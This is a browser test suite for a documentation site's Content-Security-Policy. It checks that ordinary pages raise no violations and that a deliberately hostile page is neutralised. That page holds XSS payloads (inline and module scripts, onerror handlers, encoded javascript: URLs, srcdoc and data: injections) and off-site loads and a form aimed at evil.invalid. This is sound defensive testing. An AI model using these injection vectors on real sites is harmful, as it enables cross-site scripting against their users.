"""The Content-Security-Policy in a real browser: every page type, the 404 page, search, the citation popover
and the palette switch raise no violation (the site's own scripts satisfy the policy); and on a hostile tiny
project, what a hand-written page or its front matter smuggles in (inline scripts, event handlers, javascript:
URLs, off-site scripts, styles, images and forms, a <base>) does not run, the build says so and `--strict` stops,
while content text stays inert because it is escaped, policy or not.

Shares the one Chromium of browser_support; each reader here is a context of its own that records every
`securitypolicyviolation` event from before the page's first script.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from browser_support import DESKTOP, Reader, _reader, _screenshot, serving
from conftest import make_project, run_mkdocs

# A page of each type (an event has no page of its own: it is an entry of the timeline, reached by its anchor).
pytestmark = pytest.mark.browser  # every test here reads the site in Chromium, or serves one to it

PAGES = {
    "home": "",
    "person": "people/alec-baldwin/",
    "event": "timeline/#extra-red-carpet-interview",
    "quote": "quotes/when-im-talking/",
    "claims": "claims/",
    "claims-topic": "claims/red-carpet/",
    "disagreements": "disagreements/",
    "compare": "compare/",
    "sources": "sources/",
    "source": "sources/justify-snapping/",
    "source-landed": "sources/justify-snapping/?for=hilaria-age-41#q-506-524",
    "timeline": "timeline/",
    "corrections": "corrections/",
    "transcript": "transcripts/extra-interview-transcript/",
    "how-to-edit": "how-to-edit/",
    "error-codes": "error-codes/",
}
# The address the site is built for (mkdocs.yml's default site_url) has this path: the 404 page, which any
# address of the site may show, names its files from it.
PUBLISHED_PATH = "explainer/"

# Recorded from before any script of the page runs (init scripts are the browser's, not the page's).
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => window.__violations.push({
    directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, line: e.lineNumber,
    source: e.sourceFile}));
"""


def _violations(page: Page) -> list[dict[str, Any]]:
    return page.evaluate("() => window.__violations")  # type: ignore[no-any-return]


def _csp_reader(browser: Browser, base: str, **options: Any) -> Reader:
    reader = _reader(browser, base, viewport=DESKTOP, color_scheme="light", **options)
    reader.context.add_init_script(RECORD_VIOLATIONS)
    return reader


def _csp_errors(reader: Reader) -> list[str]:
    return [error for error in reader.errors if "Content Security Policy" in error or "Content-Security" in error]


@pytest.fixture(scope="module")
def csp_reader(browser: Browser, site_url: str, built_site: Path) -> Iterator[Reader]:
    reader = _csp_reader(browser, site_url)

    # As GitHub Pages serves it below PUBLISHED_PATH: a file of the site, else the 404 page with status 404.
    def published(route: Route) -> None:
        path = route.request.url[len(site_url + PUBLISHED_PATH) :].split("?")[0].split("#")[0]
        target = built_site / path
        if target.is_dir():
            target = target / "index.html"
        if target.is_file():
            route.fulfill(path=str(target))
        else:
            route.fulfill(status=404, path=str(built_site / "404.html"), content_type="text/html")

    reader.context.route(site_url + PUBLISHED_PATH + "**", published)
    yield reader
    reader.context.close()


@pytest.mark.parametrize("name", sorted(PAGES))
def test_no_page_type_violates_the_policy(csp_reader: Reader, name: str) -> None:
    page = csp_reader.open(PAGES[name])
    page.wait_for_load_state("load")
    # The inline scripts ran: the head script marks the page, Material's scripts define their globals.
    assert page.evaluate("() => document.documentElement.classList.contains('ex-js')")
    assert page.evaluate("() => typeof __md_scope === 'object' && typeof __md_get === 'function'")
    expect(page.locator(".md-header")).to_be_visible()
    page.wait_for_timeout(100)  # violations are reported asynchronously
    assert _violations(page) == []
    assert _csp_errors(csp_reader) == []
    assert csp_reader.external_requests() == []


def test_the_404_page_satisfies_the_policy(csp_reader: Reader) -> None:
    response = csp_reader.page.goto(csp_reader.base + PUBLISHED_PATH + "no/such/page/")
    assert response is not None and response.status == 404
    page = csp_reader.page
    expect(page.locator("h1")).to_have_text("404 - Not found")
    assert page.evaluate("() => document.documentElement.classList.contains('ex-js')")
    assert page.evaluate("() => typeof __md_scope === 'object'")
    # Its files are named from the published address; they loaded, under the policy.
    assert page.evaluate("() => getComputedStyle(document.querySelector('.md-header')).position") == "sticky"
    page.wait_for_timeout(100)
    assert _violations(page) == []
    assert _csp_errors(csp_reader) == []


def test_search_works_under_the_policy(csp_reader: Reader) -> None:
    page = csp_reader.open(PAGES["home"])
    page.locator("input.md-search__input").click()
    page.keyboard.type("not talking")
    results = page.locator(".md-search-result__item")
    expect(results.first).to_be_visible()  # the worker started, fetched the index and answered
    assert results.count() >= 1
    expect(results.first.locator("mark").first).to_be_attached()
    page.wait_for_timeout(100)
    assert _violations(page) == []
    assert _csp_errors(csp_reader) == []


def test_the_citation_popover_opens_under_the_policy(csp_reader: Reader) -> None:
    page = csp_reader.open("people/hilaria-baldwin/")
    chip = page.locator('li[id="hilaria-described-yoga-teacher-reality-star"] > a.ex-chip')
    chip.click()
    pop = page.locator("#ex-pop")
    expect(pop).to_be_visible()
    expect(pop.locator("ol > li mark").first).to_be_visible()
    _screenshot(page, "csp-person-popover-desktop")
    page.keyboard.press("Escape")
    expect(pop).to_be_hidden()
    assert _violations(page) == []
    assert _csp_errors(csp_reader) == []


def test_the_palette_switches_under_the_policy(csp_reader: Reader) -> None:
    page = csp_reader.open(PAGES["person"])
    body = page.locator("body")
    expect(body).to_have_attribute("data-md-color-scheme", "default")
    page.locator('label[for="__palette_1"]').click()
    expect(body).to_have_attribute("data-md-color-scheme", "slate")
    page.reload()  # the choice is kept (Material's inline palette script, allowed by its hash)
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.locator('label[for="__palette_0"]').click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")
    assert _violations(page) == []
    assert _csp_errors(csp_reader) == []


# --- a hostile tiny project -----------------------------------------------------------------------------------------

OFF_SITE = "https://evil.invalid"
# A hand-written page without citation markers (so its sentences are not grounded), whose raw HTML and front
# matter try everything that would run or leave the site. Each attempt sets a global a test can look for.
HOSTILE_PAGE = f"""\
---
title: "Hostile <script>window.pwnedTitle=true</script><img src=missing.png onerror=window.pwnedTitleImg=true>"
description: "<script>window.pwnedDescription=true</script>"
---
# Hostile page

<script>window.pwnedInline=true</script>
<SCRIPT type="module">window.pwnedModule=true</SCRIPT>
<script type="text/javascript">window.pwnedTyped=true</script>
<script src="data:text/javascript,window.pwnedDataUrl=true"></script>
<script src="{OFF_SITE}/x.js"></script>
<svg><script>window.pwnedSvg=true</script></svg>
<img id="handler" src="missing.png" onerror="window.pwnedHandler=true">
<p id="styled">Text</p>
<a id="jsurl" href="javascript:window.pwnedUrl=true">a link</a>
<a id="jsurl-encoded" href="&#106;ava&#x09;script:window.pwnedEncodedUrl=true">another</a>
<iframe srcdoc="<script>parent.pwnedFrame=true</script>"></iframe>
<object data="data:text/html,<script>parent.pwnedObject=true</script>"></object>
<style>#styled {{ display: none }}</style>
<link rel="stylesheet" href="{OFF_SITE}/x.css">
<img src="{OFF_SITE}/pixel.png" alt="">
<form id="leak" action="{OFF_SITE}/collect" method="get"><button id="send">Send</button></form>
<script>__md_scope=new URL("..",location),alert(document.domain)</script>
"""
PWNED = [
    "pwnedTitle",
    "pwnedTitleImg",
    "pwnedDescription",
    "pwnedInline",
    "pwnedModule",
    "pwnedTyped",
    "pwnedDataUrl",
    "pwnedSvg",
    "pwnedHandler",
    "pwnedUrl",
    "pwnedEncodedUrl",
    "pwnedFrame",
    "pwnedObject",
    "pwnedContent",
    "pwnedContentImg",
]
# Content is data: its text is escaped wherever it is shown, so the same tricks are only characters there.
HOSTILE_CLAIM = (
    "Ann greets Bob. <script>window.pwnedContent=true</script> <img src=x onerror=window.pwnedContentImg=true>"
)
HOSTILE_CLAIMS = f"""\
claims:
  - id: ann-greets
    topic: general
    text: "{HOSTILE_CLAIM}"
    about: [ann, bob]
    citations:
      - source: tiny
        quote: said "hello there" to Bob
"""


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("hostile") / "tiny", {"claims.yaml": HOSTILE_CLAIMS})
    (project / "docs" / "hostile.md").write_text(HOSTILE_PAGE, encoding="utf-8")
    (project / "mkdocs.yml").write_text(
        (project / "mkdocs.yml").read_text(encoding="utf-8") + "  - hostile.md\n", encoding="utf-8"
    )
    return project


@pytest.fixture(scope="module")
def hostile_site(hostile_project: Path) -> Iterator[str]:
    site = hostile_project / "site"
    result = run_mkdocs(hostile_project, "build", "--site-dir", str(site))  # not --strict: see the test below
    assert result.returncode == 0, result.stderr[-3000:]
    with serving(site) as url:
        yield url


@pytest.fixture(scope="module")
def hostile_reader(browser: Browser, hostile_site: str) -> Iterator[Reader]:
    reader = _csp_reader(browser, hostile_site)
    failed: dict[str, str | None] = {}
    reader.page.on("requestfailed", lambda request: failed.__setitem__(request.url, request.failure))
    reader.failed = failed  # type: ignore[attr-defined]
    yield reader
    reader.context.close()


def _pwned(page: Page) -> list[str]:
    return page.evaluate("(names) => names.filter(n => window[n] !== undefined)", PWNED)  # type: ignore[no-any-return]


def test_a_hostile_hand_written_page_runs_nothing_and_fetches_nothing_off_site(hostile_reader: Reader) -> None:
    page = hostile_reader.open("hostile/")
    page.wait_for_load_state("load")
    # The page itself still works: the trusted inline scripts ran, the site's stylesheets applied, and the
    # injected <style> did not.
    assert page.evaluate("() => document.documentElement.classList.contains('ex-js')")
    assert page.evaluate("() => typeof __md_scope === 'object'")
    expect(page.locator("#styled")).to_be_visible()
    assert page.evaluate("() => getComputedStyle(document.querySelector('.md-header')).position") == "sticky"
    # The "title" that tried to close the header's text is the page's <title>, as written.
    assert "window.pwnedTitle=true" in page.title()
    page.locator("#jsurl").click()
    page.locator("#jsurl-encoded").click()
    # Last: Playwright counts the refused submission as a navigation that never ends.
    page.locator("#send").click(no_wait_after=True)
    page.wait_for_timeout(300)
    assert _pwned(page) == []
    assert page.url == hostile_reader.base + "hostile/"
    # The test's own guard would abort an off-site request; the policy stops each before it is made.
    off_site = hostile_reader.external_requests()
    assert sorted(off_site) == [f"{OFF_SITE}/pixel.png", f"{OFF_SITE}/x.css", f"{OFF_SITE}/x.js"]
    assert {url: hostile_reader.failed[url] for url in off_site} == dict.fromkeys(off_site, "csp")  # type: ignore[attr-defined]
    blocked = {(v["directive"], v["blocked"]) for v in _violations(page)}
    assert {
        ("script-src-elem", "inline"),  # the <script>s, the front matter's among them
        ("script-src-elem", "data"),
        ("script-src-elem", f"{OFF_SITE}/x.js"),
        ("script-src-attr", "inline"),  # onerror, in the page and in the front matter's title
        ("style-src-elem", "inline"),
        ("style-src-elem", f"{OFF_SITE}/x.css"),
        ("img-src", f"{OFF_SITE}/pixel.png"),
        ("object-src", "data"),
        ("form-action", f"{OFF_SITE}/collect?"),
    } <= blocked, blocked
    # Both javascript: links were refused when followed (reported to the console, not as events).
    refused_urls = [e for e in _csp_errors(hostile_reader) if "Running the JavaScript URL violates" in e]
    assert len(refused_urls) == 2, hostile_reader.errors


def test_content_text_is_inert_without_the_policy_having_to_act(hostile_reader: Reader, hostile_project: Path) -> None:
    page = hostile_reader.open("claims/general/")
    expect(page.locator("li#ann-greets")).to_contain_text(HOSTILE_CLAIM)
    page.locator("li#ann-greets > a.ex-chip").click()
    expect(page.locator("#ex-pop")).to_be_visible()  # the citation popover still opens
    expect(page.locator("#ex-pop")).not_to_contain_text("pwnedContent")  # the chip's passage, not the claim
    page.wait_for_timeout(100)
    assert _pwned(page) == []
    # Escaped text gives the policy nothing to block: what it blocks here is the hostile page's title in the
    # menu (a hand-written page's front matter), on its own lines of the page.
    source = (hostile_project / "site" / "claims" / "general" / "index.html").read_text(encoding="utf-8")
    menu = {n for n, line in enumerate(source.splitlines(), 1) if "<script>window.pwnedTitle" in line}
    violations = _violations(page)
    elements = [v for v in violations if v["directive"] != "script-src-attr"]
    assert menu and {v["line"] for v in elements} <= menu, violations
    # A blocked handler attribute is reported without a line when its event (the image's error) comes after
    # parsing: such handlers are the title's image, and every element carrying a handler is in the menu.
    handlers = page.evaluate(
        """() => [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on')))
                .map(e => e.closest('nav') !== null)"""
    )
    assert handlers and all(handlers), handlers
    assert len([v for v in violations if v["directive"] == "script-src-attr"]) <= len(handlers), violations
    assert "&lt;script&gt;window.pwnedContent=true&lt;/script&gt;" in source


def test_a_strict_build_refuses_what_the_policy_would_block(hostile_project: Path) -> None:
    result = run_mkdocs(hostile_project, "build", "--strict", "--site-dir", str(hostile_project / "strict-site"))
    assert result.returncode != 0
    warnings = {
        line.split("explainer: ", 1)[1].split(": ", 1)[0]: line
        for line in result.stderr.splitlines()
        if "Content-Security-Policy blocks" in line
    }
    assert "hostile.md" in warnings, result.stderr[-3000:]
    for expected in (
        "an inline script: 'window.pwnedInline=true'",
        "an inline script: 'window.pwnedModule=true'",
        "an inline script: 'window.pwnedTyped=true'",
        "an inline script: 'window.pwnedSvg=true'",
        # A copy of Material's first script with a call added is not Material's script.
        "an inline script: '__md_scope=new URL(\"..\",location),alert(document.domain)'",
        "an event-handler attribute: <img onerror='window.pwnedHandler=true'>",
        "a javascript: URL: <a href='javascript:window.pwnedUrl=true'>",
        "a javascript: URL: <a href='java\\tscript:window.pwnedEncodedUrl=true'>",
    ):
        assert expected in warnings["hostile.md"], warnings["hostile.md"]
    # The front matter's title is printed by the theme (the header, and the menu of every page, the claims
    # page included), outside the page's content: blocked there too, and named on each page.
    for page in ("hostile.md", "claims/general.md", "index.md"):
        assert "an inline script: 'window.pwnedTitle=true'" in warnings[page], warnings.get(page)
        assert "<img onerror='window.pwnedTitleImg=true'>" in warnings[page], warnings.get(page)
    # The claim's own text reached its pages escaped: nothing in it is named.
    assert not any("pwnedContent" in line for line in warnings.values()), warnings
